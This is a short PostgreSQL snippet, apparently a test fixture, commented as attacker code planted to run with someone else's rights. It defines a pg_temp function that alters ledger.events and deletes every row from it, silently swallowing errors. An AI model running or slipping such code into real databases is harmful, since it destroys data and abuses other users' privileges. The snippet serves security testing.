-- What an attacker puts into code that somebody else runs: it takes what rights there are then.
CREATE FUNCTION pg_temp.oracle_harm() RETURNS void
LANGUAGE plpgsql AS $oracle$
BEGIN
    BEGIN
        ALTER TABLE ledger.events ADD COLUMN harmed text;
    EXCEPTION WHEN OTHERS THEN
        NULL;
    END;
    BEGIN
        DELETE FROM ledger.events;
    EXCEPTION WHEN OTHERS THEN
        NULL;
    END;
END;
$oracle$
